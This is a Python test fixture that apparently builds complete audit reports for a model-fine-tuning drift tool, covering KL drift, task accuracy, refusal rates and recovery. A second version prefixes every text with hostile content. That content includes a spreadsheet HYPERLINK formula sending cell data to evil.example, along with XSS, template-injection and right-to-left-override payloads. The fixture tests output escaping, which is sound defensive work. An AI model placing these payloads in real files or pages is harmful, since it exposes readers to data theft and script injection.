"""A report with every section, as `keeptune audit` writes it, and the same with hostile text wherever text stands."""

from __future__ import annotations

from copy import deepcopy
from typing import Any

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
HOSTILE = (
    FORMULA + "</script></textarea></title></style><script>alert(1)</script><img src=x onerror=alert(2)>"
    "<svg onload=alert(3)><a href='javascript:alert(4)'>{{7*7}}{% raw %}<b>bold</b>\u202etxt.exe\x00&lt;\"'`"
)
_STRUCTURE = {"verdict", "verdicts", "kind", "status", "headline", "measure"}
_NAMED = {"texts", "tasks", "sets", "detectors", "refused", "versions", "machine", "task_measures"}


def interval(value: float, width: float | None = 0.01, documents: int = 16) -> dict[str, Any]:
    low, high = (None, None) if width is None else (value - width, value + width)
    return {"value": value, "low": low, "high": high, "documents": documents}


def estimate(value: float, width: float = 0.05) -> dict[str, float]:
    return {"value": value, "low": value - width, "high": value + width}


def reading(kl: float, verdict: str = "drifted") -> dict[str, Any]:
    values = {"kl": kl, "l_f_rise": 0.33, "ce_change": -0.0211, "agreement": 0.7123456789}
    return {
        "source": "source of it",
        "documents": 16,
        "tokens": 4080,
        "measures": {name: interval(value) for name, value in values.items()},
        "verdicts": dict.fromkeys(values, verdict),
    }


def answers(change: float, p: float) -> dict[str, Any]:
    return {
        "items": 50,
        "accuracy_base": estimate(0.4),
        "accuracy_tuned": estimate(0.4 + change),
        "change": estimate(change),
        "right_to_wrong": 9,
        "wrong_to_right": 1,
        "mcnemar_p": p,
        "agreement": estimate(0.8),
        "forgetting": {"raw": 0.18, "low": 0.1, "high": 0.31, "chance": 0.02, "beyond_chance": 0.16},
        "backward_transfer": {"raw": 0.02, "low": 0.0, "high": 0.1, "chance": 0.02, "beyond_chance": 0.0},
        "answers": {"base": "A", "tuned": "B"},
    }


def detector(change: float, verdict: str) -> dict[str, Any]:
    transitions = {"refused_refused": 40, "refused_answered": 32, "answered_refused": 3, "answered_answered": 25}
    return {
        "refused_base": estimate(0.72),
        "refused_tuned": estimate(0.72 + change),
        "change": estimate(change),
        "transitions": transitions,
        "broken": 7,
        "mcnemar_p": 0.000012,
        "verdict": verdict,
    }


def prompts(kind: str, verdict: str) -> dict[str, Any]:
    refused = {"rules": [True, False], "likelihood": [True, True]}
    answer = {"prompt": "How do I?", "base": "I cannot.", "tuned": "wire;", "refused": refused}
    detectors = {"rules": detector(-0.29, verdict), "likelihood": detector(-0.02, "no change shown")}
    detectors["likelihood"]["log_odds"] = {name: interval(1.5) for name in ("base", "tuned", "change")}
    return {
        "source": "goals.csv",
        "kind": kind,
        "asked": 100,
        "format": "chat",
        "new_tokens": 64,
        "detectors": detectors,
        "detectors_agree": {"base": estimate(0.91), "tuned": estimate(0.73)},
        "degenerate": {model: {"empty": 3, "repeating": 4, "share": estimate(0.07)} for model in ("base", "tuned")},
        "answers": [deepcopy(answer) for _ in range(3)],
    }


def classes(*names: str) -> list[dict[str, Any]]:
    one = {"tokens": 400, "token_share": 0.25, "kl_share": 0.5, "kl": interval(0.5), "ce_change": interval(0.1)}
    return [{"class": name, **deepcopy(one), "enough_evidence": index > 0} for index, name in enumerate(names)]


def where() -> dict[str, Any]:
    groups = {
        "probability": classes("below 0.1", "0.1 and above"),
        "position": classes("1–3"),
        "kind": classes("Greek"),
    }
    keys = ("moved", "kl_output_patched", "kl_layer_restored", "kl_repaired")
    return {
        "texts": {"self": {"classes": groups}, "pydoc": {"classes": deepcopy(groups)}},
        "passages": [
            {
                "text": "self",
                "document": "sample 3",
                "context": "Once ",
                "tokens": ["upon", " a", " time"],
                "kl": [0.2, 1.5, 7.25],
                "mean_kl": 2.98,
            }
        ],
        "layers": {
            "text": "self",
            "windows": 12,
            "tokens": 1140,
            "kl": interval(0.27),
            "rest_restored": interval(0.25),
            "layers": [{"layer": layer, **{key: interval(0.1 * layer) for key in keys}} for layer in range(4)],
        },
        "continuations": [{"text": "self", "document": "sample 1", "prompt": "It", "base": " was\n", "tuned": " is"}],
    }


def task() -> dict[str, Any]:
    return {
        "source": "arc.jsonl",
        "items_in_source": 1150,
        "asked": ["a"] * 50,
        "headline": "per_character",
        "formats": {
            "plain": {"left_out": 2, "per_character": answers(-0.16, 0.02), "raw_sum": answers(0.0, 1.0)},
            "chat": {"left_out": 0, "per_character": answers(-0.02, 1.0), "raw_sum": answers(0.0, 1.0)},
        },
    }


def harness() -> dict[str, Any]:
    f1 = {"items": 40, "base": 0.5, "tuned": 0.4, "change": estimate(-0.1), "higher_is_better": True}
    acc = {**f1, "right_to_wrong": 6, "wrong_to_right": 2, "mcnemar_p": 0.29}
    return {"limit": 40, "tasks": {"sums": {"acc": acc, "f1": f1}}}


def full_report() -> dict[str, Any]:
    """Every section."""
    floors = {name: {"floor": 0.0063} for name in ("kl", "l_f_rise", "ce_change", "agreement")}
    return {
        "base": {"source": "smollm2", "fingerprint": "7d6cbd88e1b1e631e4b5"},
        "tuned": {"source": "runs/model", "fingerprint": "c5ef3e43c7ed7f2cdba1"},
        "vocabulary": None,
        "settings": {"docs": 16, "windows": 4, "max_length": 256},
        "texts": {"self": reading(0.2678), "pydoc": reading(0.2145)},
        "noise_floor": {
            "how": "the base against itself in bfloat16",
            "texts": {name: {"measures": floors} for name in ("self", "pydoc")},
        },
        "verdict_rule": "drifted: the whole interval.",
        "measures": {"kl": "KL(base‖tuned), nats per token", "agreement": "fraction of tokens"},
        "intervals": "95% percentile bootstrap over documents, 2000 resamples",
        "tasks": {"arc": task()},
        "lm_eval": harness(),
        "task_measures": {"mcnemar_p": "exact two-sided p"},
        "safety": {
            "sets": {
                "advbench": prompts("harmful", "refuses less"),
                "harmless": prompts("harmless", "no change shown"),
            },
            "detectors": {"rules": "what the answer says", "likelihood": "likelier openings"},
            "verdict_rule": "refuses less: p below 0.05.",
        },
        "where": where(),
        "recovery": {
            "text": "self",
            "documents": 16,
            "documents_tuned_on": 15,
            "steps": 16,
            "rows_a_step": 4,
            "learning_rate": 5e-5,
            "measures": {"gap_before": interval(0.27), "gap_after": interval(0.11)},
            "recovered_share": interval(0.59),
            "verdict": "more than half is recovered",
            "rule": "recovered: the whole interval above a half.",
        },
        "gate": [
            {
                "name": "self",
                "part": "",
                "measure": "kl",
                "limit": 0.2,
                "bound": "kl ≤ 0.2",
                "status": "broken",
                "reason": "kl on self is 0.2678 [0.2578, 0.2778], bound kl ≤ 0.2: the interval excludes the bound",
            }
        ],
        "command": "keeptune audit smollm2 runs/model --docs 16",
        "commit": "2211f21",
        "seed": 1,
        "versions": {"keeptune": "0.1.0"},
        "machine": {"architecture": "x86_64", "accelerator": None, "threads": 2},
    }


def hostile_report() -> dict[str, Any]:
    """The same with `HOSTILE` as every name and in front of every text that is no part of the report's structure."""
    report: dict[str, Any] = _hostile(full_report(), "")
    return report


def _hostile(content: Any, key: str) -> Any:
    if key in _STRUCTURE:
        return content
    if isinstance(content, dict):
        rename = HOSTILE if key in _NAMED else ""
        return {rename + name: _hostile(part, name) for name, part in content.items()}
    if isinstance(content, list):
        return [_hostile(part, key) for part in content]
    return HOSTILE + content if isinstance(content, str) else content
